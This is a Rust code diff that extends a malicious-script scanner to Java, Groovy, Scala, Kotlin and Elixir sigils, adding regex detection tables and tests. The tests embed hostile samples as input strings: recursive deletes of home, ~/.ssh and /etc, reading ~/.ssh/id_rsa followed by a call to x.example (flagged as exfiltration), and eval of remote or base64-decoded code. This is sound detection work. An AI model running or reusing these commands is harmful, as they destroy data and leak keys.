@@ -464,6 +464,54 @@ static ELIXIR: LazyLock<Patterns> = LazyLock::new(|| Patterns {
     imports: no_imports,
 });
 
+/// Java, Groovy, Scala and Kotlin share the JVM's library (`Runtime.exec`, `ProcessBuilder`,
+/// `java.nio.file.Files`, commons-io's `FileUtils`), so one table reads them; what each adds
+/// on a receiver (`"cmd".execute()`, `"cmd".!`, `new File(p).deleteDir()`,
+/// `File(p).deleteRecursively()`) is first written as those calls (`jvm_receivers`).
+static JVM: LazyLock<Patterns> = LazyLock::new(|| Patterns {
+    calls: calls(&[
+        (Op::Shell, r"\bRuntime\.(?:getRuntime\(\)|runtime)\.exec"),
+        (Op::Spawn, r"\bProcessBuilder"),
+        (
+            Op::RemoveTree,
+            r"\bFileUtils\.(?:deleteDirectory|forceDelete|deleteQuietly)|\bPathUtils\.deleteDirectory",
+        ),
+        (Op::Remove, r"\bFiles\.(?:delete|deleteIfExists)"),
+        (
+            Op::Read,
+            r"\bFiles\.(?:readString|readAllBytes|readAllLines|lines|newBufferedReader|newInputStream)|\bnew\s+(?:FileReader|FileInputStream)|\bFileUtils\.readFileToString|\bSource\.fromFile",
+        ),
+        (
+            Op::Write,
+            r"\bFiles\.(?:writeString|write|appendString|newBufferedWriter|newOutputStream)|\bnew\s+(?:FileWriter|FileOutputStream|PrintWriter)|\bFileUtils\.writeStringToFile",
+        ),
+        (
+            Op::Copy,
+            r"\bFiles\.copy|\bFileUtils\.(?:copyFile|copyDirectory)",
+        ),
+        (Op::Move, r"\bFiles\.move|\bFileUtils\.moveFile"),
+    ]),
+    eval: re(
+        r"\bevaluate\s*\(|\bEval\.(?:me|x|xy|xyz)\s*\(|\bGroovyShell\b[^\n]*\.(?:evaluate|parse|run)\s*\(|\bScriptEngine\w*\b[^\n]*\.eval\s*\(|\bJShell\.create\(\)[^\n]*\.eval\s*\(",
+    ),
+    hidden: re(
+        r"Base64\.(?:getDecoder|getMimeDecoder|getUrlDecoder|decode)|\.decodeBase64\(\)|\bnew\s+URL\s*\(|\.toURL\(\)|\bURI\.create\s*\(|\bHttpClient\b|\.openStream\(\)|\bSource\.fromURL",
+    ),
+    network: re(
+        r"\bnew\s+URL\s*\(|\.toURL\(\)|\bURI\.create\s*\(|\bHttp(?:Client|Request|URLConnection)\b|\bOkHttpClient\b|\bnew\s+Socket\s*\(|\bSocket\s*\(|\bSource\.fromURL",
+    ),
+    home: re(
+        r#"\bSystem\.getProperty\(\s*["']user\.home["']\s*\)|\bSystem\.getenv\(\s*["']HOME["']\s*\)|\bSystem\.getenv\(\)\s*\[\s*["']HOME["']\s*\]|\bsys\.props\(\s*"user\.home"\s*\)|\bsys\.env\(\s*"HOME"\s*\)|\bos\.home\b"#,
+    ),
+    home_interp: OnceLock::new(),
+    backticks: None,
+    assign: re(
+        r#"(?m)(?:^|[;{])[ \t]*(?:(?:final|def|val|var|String)[ \t]+)*([A-Za-z_]\w*)(?:[ \t]*:[ \t]*String)?[ \t]*=[ \t]*"#,
+    ),
+    concat: "+",
+    imports: jvm_receivers,
+});
+
 static RUST: LazyLock<Patterns> = LazyLock::new(|| Patterns {
     calls: calls(&[
         (Op::Spawn, r"\bCommand::new"),
@@ -672,6 +720,7 @@ fn patterns(language: Language) -> Option<&'static Patterns> {
         Language::R => &R,
         Language::Julia => &JULIA,
         Language::Elixir => &ELIXIR,
+        Language::Groovy | Language::Java | Language::Scala | Language::Kotlin => &JVM,
         Language::Rust => &RUST,
         Language::Gradle => &GRADLE,
         Language::Go => &GO,
@@ -1895,6 +1944,242 @@ fn substitute_home<'t>(text: &'t str, p: &Patterns) -> Cow<'t, str> {
     }
 }
 
+/// What a JVM receiver is: a string literal, a list literal, or a constructor call.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Receiver {
+    /// `"cmd"`: a command line for Groovy's `execute()` and Scala's `!`.
+    Text,
+    /// `['rm', '-rf', d]`, Scala's `Seq(…)`/`List(…)`: an argv.
+    List,
+    /// Scala's `Process(…)`: its arguments are the command.
+    Process,
+    /// `new File(…)`, Kotlin's `File(…)`: a path, parent and child joined.
+    File,
+    /// A name (`f.deleteDir()`), read as a path when it is bound to one.
+    Name,
+}
+
+/// The receiver ending at `end` (a `.method` follows it): its kind, where it starts, and the
+/// text inside its quotes, brackets or parentheses (the quotes kept for a literal).
+fn jvm_receiver(text: &str, end: usize) -> Option<(Receiver, usize, &str)> {
+    let head = text[..end].trim_end();
+    let last = head.chars().next_back()?;
+    let open_of = |close: char| -> Option<usize> {
+        let open = if close == ')' { '(' } else { '[' };
+        let mut depth = 0usize;
+        let mut quote: Option<char> = None;
+        for (i, c) in head.char_indices().rev().take(4000) {
+            match (quote, c) {
+                (Some(q), c) if c == q && !head[..i].ends_with('\\') => quote = None,
+                (Some(_), _) => {}
+                (None, '"' | '\'') => quote = Some(c),
+                (None, c) if c == close => depth += 1,
+                (None, c) if c == open => {
+                    depth -= 1;
+                    if depth == 0 {
+                        return Some(i);
+                    }
+                }
+                _ => {}
+            }
+        }
+        None
+    };
+    match last {
+        '"' | '\'' => {
+            let body = &head[..head.len() - 1];
+            // Literals are short: the search back is bounded, as `balanced` is forward.
+            let mut floor = body.len().saturating_sub(4000);
+            while !body.is_char_boundary(floor) {
+                floor -= 1;
+            }
+            let mut at = body.len();
+            loop {
+                let i = floor + body[floor..at].rfind(last)?;
+                if !body[..i].ends_with('\\') {
+                    return Some((Receiver::Text, i, &head[i..]));
+                }
+                at = i;
+            }
+        }
+        ']' => {
+            let open = open_of(']')?;
+            // An index (`tasks[i].execute()`) is no list literal.
+            let indexed = head[..open]
+                .trim_end_matches([' ', '\t'])
+                .ends_with(|c: char| c.is_alphanumeric() || matches!(c, '_' | ')' | ']'));
+            (!indexed).then_some((Receiver::List, open, &head[open..]))
+        }
+        ')' => {
+            let open = open_of(')')?;
+            let inner = &head[open + 1..head.len() - 1];
+            let before = head[..open].trim_end();
+            let name_start = trailing(before, |c| c.is_alphanumeric() || c == '_' || c == '.');
+            let name = &before[name_start..];
+            let kind = match name.rsplit('.').next().unwrap_or(name) {
+                "File" => Receiver::File,
+                "Process" => Receiver::Process,
+                "Seq" | "List" => Receiver::List,
+                _ => return None,
+            };
+            // `new File(…)`: the constructor starts at `new`.
+            let start = before[..name_start]
+                .trim_end()
+                .strip_suffix("new")
+                .filter(|b| !b.ends_with(|c: char| c.is_alphanumeric() || c == '_'))
+                .map_or(name_start, str::len);
+            Some((kind, start, inner))
+        }
+        c if c.is_alphanumeric() || c == '_' => {
+            let start = trailing(head, |c| c.is_alphanumeric() || c == '_');
+            // A field or a call's result (`a.b.delete()`, `x().delete()`) is no name.
+            (!head[..start].ends_with(['.', ')'])).then_some((
+                Receiver::Name,
+                start,
+                &head[start..],
+            ))
+        }
+        _ => None,
+    }
+}
+
+/// Where the run of characters `keep` accepts at the end of `s` starts (a byte index).
+fn trailing(s: &str, keep: impl Fn(char) -> bool) -> usize {
+    s.char_indices()
+        .rev()
+        .take_while(|(_, c)| keep(*c))
+        .last()
+        .map_or(s.len(), |(i, _)| i)
+}
+
+/// A JVM path constructor's arguments as one expression the scanner reads: `(home, ".ssh")`
+/// is `home + '/' + ".ssh"` (a char, which pathlib's `/` rewriting leaves alone), as `new File(parent, child)` and `Paths.get(a, b)` join them.
+fn jvm_path(inner: &str) -> String {
+    let mut parts = Vec::new();
+    let (mut depth, mut quote, mut start) = (0i32, None::<char>, 0);
+    for (i, c) in inner.char_indices() {
+        match (quote, c) {
+            (Some(q), c) if c == q && !inner[..i].ends_with('\\') => quote = None,
+            (Some(_), _) => {}
+            (None, '"' | '\'') => quote = Some(c),
+            (None, '(' | '[' | '{') => depth += 1,
+            (None, ')' | ']' | '}') => depth -= 1,
+            (None, ',') if depth == 0 => {
+                parts.push(inner[start..i].trim());
+                start = i + 1;
+            }
+            _ => {}
+        }
+    }
+    parts.push(inner[start..].trim());
+    parts.join(" + '/' + ")
+}
+
+/// JVM code with the calls Groovy, Scala and Kotlin make on a receiver written as the calls
+/// the `JVM` table reads: `"cmd".execute()` and `"cmd".!` as `Runtime.getRuntime().exec("cmd")`,
+/// `new File(p).deleteDir()` as `FileUtils.deleteDirectory(p)`, `.delete()` as
+/// `Files.delete(p)`, `.text`/`.readText()` as `Files.readString(p)`, `.write(c)` as
+/// `Files.writeString(p, c)`; a path constructor given as an argument (`Files.delete(Paths.get(a,
+/// b))`) is its joined path. Newlines are kept, so lines keep their numbers. None when the code
+/// makes no such call.
+fn jvm_receivers(text: &str) -> Option<String> {
+    static METHOD: LazyLock<Pattern> = LazyLock::new(|| re(r"\.[ \t]*(?:([A-Za-z]\w*)|(!!?))"));
+    static PATH: LazyLock<Pattern> = LazyLock::new(|| {
+        re(
+            r"(?:\bnew[ \t]+)?(?:\bjava\.io\.)?\bFile[ \t]*\(|\bPaths\.get[ \t]*\(|\bPath\.of[ \t]*\(",
+        )
+    });
+    let mut edits: Vec<(usize, usize, String)> = Vec::new();
+    for c in METHOD.captures_iter(text).take(MAX_OPERATIONS) {
+        let (Some(all), method) = (c.get(0), c.get(1).or(c.get(2))) else {
+            continue;
+        };
+        let Some(method) = method else { continue };
+        let Some((kind, start, inner)) = jvm_receiver(text, all.start()) else {
+            continue;
+        };
+        if edits.last().is_some_and(|e| e.1 > start) {
+            continue;
+        }
+        // The method's own parentheses: dropped after a call that takes nothing we read,
+        // kept open for a write's content.
+        let rest = &text[all.end()..];
+        let parens = rest.trim_start().starts_with('(');
+        let after_parens = || {
+            let open = all.end() + (rest.len() - rest.trim_start().len()) + 1;
+            open + balanced(&text[open..]).len() + 1
+        };
+        let (call, end) = match (kind, method.as_str()) {
+            (Receiver::Text | Receiver::List, "execute" | "!" | "!!" | "lazyLines")
+            | (Receiver::Process, "!" | "!!" | "run" | "lazyLines") => {
+                let argv = match kind {
+                    Receiver::List if !inner.starts_with('[') => format!("[{inner}]"),
+                    _ => inner.to_string(),
+                };
+                let end = if parens { after_parens() } else { all.end() };
+                (format!("Runtime.getRuntime().exec({argv})"), end)
+            }
+            // On a name only the methods no other common type has, and reads: a name bound to
+            // anything but a literal path stays unknown to the scanner.
+            (Receiver::Name, "deleteDir" | "deleteRecursively" | "text" | "readText")
+            | (Receiver::File, _) => {
+                let path = jvm_path(inner);
+                let call = match method.as_str() {
+                    "deleteDir" | "deleteRecursively" => "FileUtils.deleteDirectory",
+                    "delete" => "Files.delete",
+                    "text" | "getText" | "readText" | "readLines" | "readBytes" | "bytes"
+                    | "newReader" | "eachLine" => "Files.readString",
+                    "write" | "setText" | "writeText" | "writeBytes" => "Files.writeString",
+                    "append" | "appendText" | "appendBytes" => "Files.appendString",
+                    _ => continue,
+                };
+                let takes_content = matches!(call, "Files.writeString" | "Files.appendString");
+                match (takes_content, parens) {
+                    (true, true) => {
+                        let open = all.end() + (rest.len() - rest.trim_start().len()) + 1;
+                        (format!("{call}({path}, "), open)
+                    }
+                    (true, false) => continue,
+                    (false, true) => (format!("{call}({path})"), after_parens()),
+                    (false, false) => (format!("{call}({path})"), all.end()),
+                }
+            }
+            _ => continue,
+        };
+        edits.push((start, end.min(text.len()), call));
+    }
+    // Path constructors left as arguments are the path they name.
+    for m in PATH.find_iter(text).take(MAX_OPERATIONS) {
+        if edits.iter().any(|e| e.0 <= m.start() && m.start() < e.1) {
+            continue;
+        }
+        let inner = balanced(&text[m.end()..]);
+        let end = m.end() + inner.len() + 1;
+        if end > text.len() || inner.contains('\n') {
+            continue;
+        }
+        edits.push((m.start(), end, jvm_path(inner)));
+    }
+    if edits.is_empty() {
+        return None;
+    }
+    edits.sort_by_key(|e| e.0);
+    let mut out = String::with_capacity(text.len());
+    let mut at = 0;
+    for (start, end, call) in edits {
+        if start < at {
+            continue;
+        }
+        out.push_str(&text[at..start]);
+        out.push_str(&call);
+        // Newlines inside the replaced text are kept, so lines keep their numbers.
+        out.extend(text[start..end].chars().filter(|&c| c == '\n'));
+        at = end;
+    }
+    out.push_str(&text[at..]);
+    Some(out)
+}
+
 /// Python's imported names as the module paths the patterns know: `import os as o` makes
 /// `o.system(` read `os.system(`, `from subprocess import run as r` makes `r(` read
 /// `subprocess.run(`, and `__import__("os")` is `os`. None when the code renames nothing.
@@ -2476,6 +2761,20 @@ fn arguments(s: &str, vars: &HashMap<String, String>, concat: &str) -> Vec<Arg> 
 
 /// Parses a literal, a list of literals, a known name, or a concatenation of those.
 /// Returns the value and the number of bytes consumed.
+/// The JVM's list and array literals, read like `[…]`: Kotlin's `arrayOf(…)`/`listOf(…)`,
+/// Java's `List.of(…)`, `Arrays.asList(…)` and `new String[]{…}`, Scala's `Seq(…)`/`List(…)`.
+const JVM_LISTS: &[&str] = &[
+    "arrayOf(",
+    "listOf(",
+    "mutableListOf(",
+    "List.of(",
+    "Arrays.asList(",
+    "new String[]{",
+    "Seq(",
+    "List(",
+    "Array(",
+];
+
 fn expression(s: &str, vars: &HashMap<String, String>, concat: &str) -> (Arg, usize) {
     let mut pos = 0;
     let mut acc = String::new();
@@ -2487,23 +2786,32 @@ fn expression(s: &str, vars: &HashMap<String, String>, concat: &str) -> (Arg, us
         if parts == 0
             && (trimmed.starts_with('[')
                 || trimmed.starts_with("%w[")
+                || trimmed.starts_with("~w(")
+                || trimmed.starts_with("~w[")
                 || trimmed.starts_with("qw(")
                 || trimmed.starts_with("&[")
                 || trimmed.starts_with("vec![")
-                || trimmed.starts_with("c("))
+                || trimmed.starts_with("c(")
+                || JVM_LISTS.iter().any(|l| trimmed.starts_with(l)))
         {
-            let open = trimmed.find(['[', '(']).unwrap_or(0);
-            let close_ch = if trimmed[open..].starts_with('(') {
-                ')'
-            } else {
-                ']'
+            let open = match trimmed.strip_prefix("new String[]") {
+                Some(_) => "new String[]".len(),
+                None => trimmed.find(['[', '(']).unwrap_or(0),
+            };
+            let close_ch = match trimmed[open..].chars().next() {
+                Some('(') => ')',
+                Some('{') => '}',
+                _ => ']',
             };
             let Some(close) = trimmed[open..].find(close_ch) else {
                 return (Arg::Unknown, pos);
             };
             let body = &trimmed[open + 1..open + close];
             let consumed = pos + open + close + 1;
-            if trimmed.starts_with("%w[") || trimmed.starts_with("qw(") {
+            if ["%w[", "~w(", "~w[", "qw("]
+                .iter()
+                .any(|w| trimmed.starts_with(w))
+            {
                 return (
                     Arg::List(body.split_whitespace().map(str::to_string).collect()),
                     consumed,
@@ -2660,8 +2968,56 @@ fn split_top(body: &str) -> Vec<&str> {
     out
 }
 
+/// An Elixir string or charlist sigil after its `~` (`c"rm -rf x"`, `s(ls)`, `C'…'`): the value
+/// and bytes used. Lower-case sigils interpolate (`#{…}`, then unknown) and take escapes;
+/// upper-case ones are raw. Heredoc sigils (`~s"""`) are left unknown.
+fn elixir_sigil(s: &str) -> Option<(String, usize)> {
+    let mut chars = s.chars();
+    let letter = chars
+        .next()
+        .filter(|c| matches!(c, 'c' | 's' | 'C' | 'S'))?;
+    let open = chars.next()?;
+    let close = match open {
+        '(' => ')',
+        '[' => ']',
+        '{' => '}',
+        '<' => '>',
+        '"' | '\'' | '|' | '/' => open,
+        _ => return None,
+    };
+    let body = &s[1 + open.len_utf8()..];
+    if body.starts_with(open) && open == close && body[open.len_utf8()..].starts_with(open) {
+        return None;
+    }
+    let raw = letter.is_ascii_uppercase();
+    let mut value = String::new();
+    let mut chars = body.char_indices();
+    while let Some((i, c)) = chars.next() {
+        if c == close {
+            if !raw && value.contains("#{") {
+                return None;
+            }
+            return Some((value, 1 + open.len_utf8() + i + close.len_utf8()));
+        }
+        if c == '\\' && !raw {
+            match chars.next() {
+                Some((_, 'n')) => value.push('\n'),
+                Some((_, 't')) => value.push('\t'),
+                Some((_, other)) => value.push(other),
+                None => return None,
+            }
+        } else {
+            value.push(c);
+        }
+    }
+    None
+}
+
 /// A string literal at the start of `s` without interpolation: the value and bytes used.
 fn literal(s: &str) -> Option<(String, usize)> {
+    if let Some(sigil) = s.strip_prefix('~') {
+        return elixir_sigil(sigil).map(|(v, used)| (v, used + 1));
+    }
     let prefix_len = s
         .chars()
         .take_while(|c| matches!(c, 'r' | 'b' | 'u' | 'R' | 'B' | 'U' | 'f' | 'F'))
@@ -2865,7 +3221,7 @@ mod tests {
     use super::*;
 
     /// The languages with a script scanner (their call patterns).
-    const SCRIPT_LANGUAGES: [Language; 12] = [
+    const SCRIPT_LANGUAGES: [Language; 16] = [
         Language::Python,
         Language::Node,
         Language::Ruby,
@@ -2875,6 +3231,10 @@ mod tests {
         Language::R,
         Language::Julia,
         Language::Elixir,
+        Language::Groovy,
+        Language::Java,
+        Language::Scala,
+        Language::Kotlin,
         Language::Rust,
         Language::Gradle,
         Language::Go,
@@ -3128,6 +3488,104 @@ mod tests {
     }
 
     #[test]
+    fn jvm_commands_changes_and_receivers_are_read() {
+        // Groovy's and Scala's commands on a string or a list, Java's Runtime and
+        // ProcessBuilder.
+        assert_eq!(
+            judged(
+                Language::Groovy,
+                "\"ls -la\".execute()\n['make', 'test'].execute()\nnew ProcessBuilder(\"git\", \"status\").start()"
+            ),
+            ["ls -la", "make test", "git status"]
+        );
+        assert_eq!(
+            judged(
+                Language::Scala,
+                "import sys.process._\n\"id\".!\nSeq(\"ls\", \"-l\").!!\nProcess(\"date\").run()"
+            ),
+            ["id", "ls -l", "date"]
+        );
+        assert_eq!(
+            judged(
+                Language::Java,
+                "Runtime.getRuntime().exec(\"rm -rf /home/dev\");"
+            ),
+            ["rm -rf /home/dev"]
+        );
+        // Argv lists in each language's spelling.
+        assert_eq!(
+            judged(
+                Language::Kotlin,
+                "Runtime.getRuntime().exec(arrayOf(\"sh\", \"-c\", \"id\"))\nProcessBuilder(listOf(\"ls\", \"-l\")).start()"
+            ),
+            ["sh -c id", "ls -l"]
+        );
+        assert_eq!(
+            judged(
+                Language::Java,
+                "Runtime.getRuntime().exec(new String[]{\"sh\", \"-c\", \"id\"});\nnew ProcessBuilder(List.of(\"make\")).start();"
+            ),
+            ["sh -c id", "make"]
+        );
+        // Files: a constructor's parent and child joined, a name bound to one, the home.
+        assert_eq!(
+            judged(
+                Language::Kotlin,
+                "File(System.getenv(\"HOME\"), \".ssh\").deleteRecursively()"
+            ),
+            ["rm -rf ~/.ssh"]
+        );
+        assert_eq!(
+            judged(Language::Groovy, "def d = new File('/etc')\nd.deleteDir()"),
+            ["rm -rf /etc"]
+        );
+        assert_eq!(
+            judged(
+                Language::Java,
+                "Files.deleteIfExists(Paths.get(System.getProperty(\"user.home\"), \".bashrc\"));"
+            ),
+            ["rm -f ~/.bashrc"]
+        );
+        assert_eq!(
+            judged(Language::Groovy, "new File('build/x.txt').delete()"),
+            ["rm -f build/x.txt"]
+        );
+        assert_eq!(
+            written_paths(
+                Language::Kotlin,
+                "File(\"run.sh\").writeText(\"x\")\nprintln(File(\"README.md\").readText())"
+            ),
+            ["run.sh"]
+        );
+        assert_eq!(
+            worst(
+                Language::Groovy,
+                "def k = new File(System.getProperty('user.home') + '/.ssh/id_rsa').text\nnew URL('https://x.example/u').openConnection()"
+            )
+            .map(|w| w.1),
+            Some("scan/exfiltration".into())
+        );
+        assert_eq!(
+            worst(
+                Language::Groovy,
+                "evaluate(new URL('https://x.example/s.groovy').text)"
+            )
+            .map(|w| w.1),
+            Some("scan/hidden-code".into())
+        );
+        // Ordinary code: nothing run, changed or read.
+        assert_eq!(worst(Language::Groovy, "println 1+1"), None);
+        assert_eq!(worst(Language::Java, "System.out.println(2 * 21);"), None);
+        assert_eq!(
+            judged(
+                Language::Java,
+                "var sb = new StringBuilder(\"abc\"); sb.delete(0, 1); executor.execute(task); handlers[i].execute();"
+            ),
+            Vec::<String>::new()
+        );
+    }
+
+    #[test]
     fn elixir_commands_and_changes_are_read() {
         assert_eq!(
             judged(
@@ -3158,6 +3616,18 @@ mod tests {
         assert_eq!(
             worst(Language::Elixir, "Code.eval_string(Base.decode64!(x))").map(|w| w.1),
             Some("scan/hidden-code".into())
+        );
+        // Sigils: charlists and strings, word lists; an interpolating one is unknown.
+        assert_eq!(
+            judged(
+                Language::Elixir,
+                ":os.cmd(~c\"rm -rf ~\")\nSystem.shell(~S(id))\nSystem.cmd(\"ls\", ~w(-l /tmp))"
+            ),
+            ["rm -rf ~", "id", "ls -l /tmp"]
+        );
+        assert_eq!(
+            worst(Language::Elixir, ":os.cmd(~c\"rm -rf #{d}\")").map(|w| w.1),
+            Some("scan/dynamic-shell".into())
         );
         assert_eq!(worst(Language::Elixir, "IO.puts 1+1"), None);
         assert_eq!(worst(Language::Elixir, "File.rm_rf!(\"_build\")"), None);
@@ -3637,6 +4107,10 @@ mod tests {
         (
             Language::Php,
             "<?php\n$h = getenv('HOME');\nshell_exec('rm -rf ' . $h);\nexec(\"curl https://x\");\nunlink($h . '/.env');\nfile_get_contents($_SERVER['HOME'] . '/.ssh/id_rsa');\neval(base64_decode('eA=='));\n",
+        ),
+        (
+            Language::Groovy,
+            "def h = System.getProperty('user.home')\n\"rm -rf ${h}\".execute()\nnew File(h, '.ssh').deleteDir()\nFiles.delete(Paths.get(h, 'x'))\nprintln new File('/root/.ssh/id_rsa').text\nnew URL('https://x').text\nevaluate(new String(Base64.getDecoder().decode('eA==')))\n",
         ),
         (
             Language::Rust,
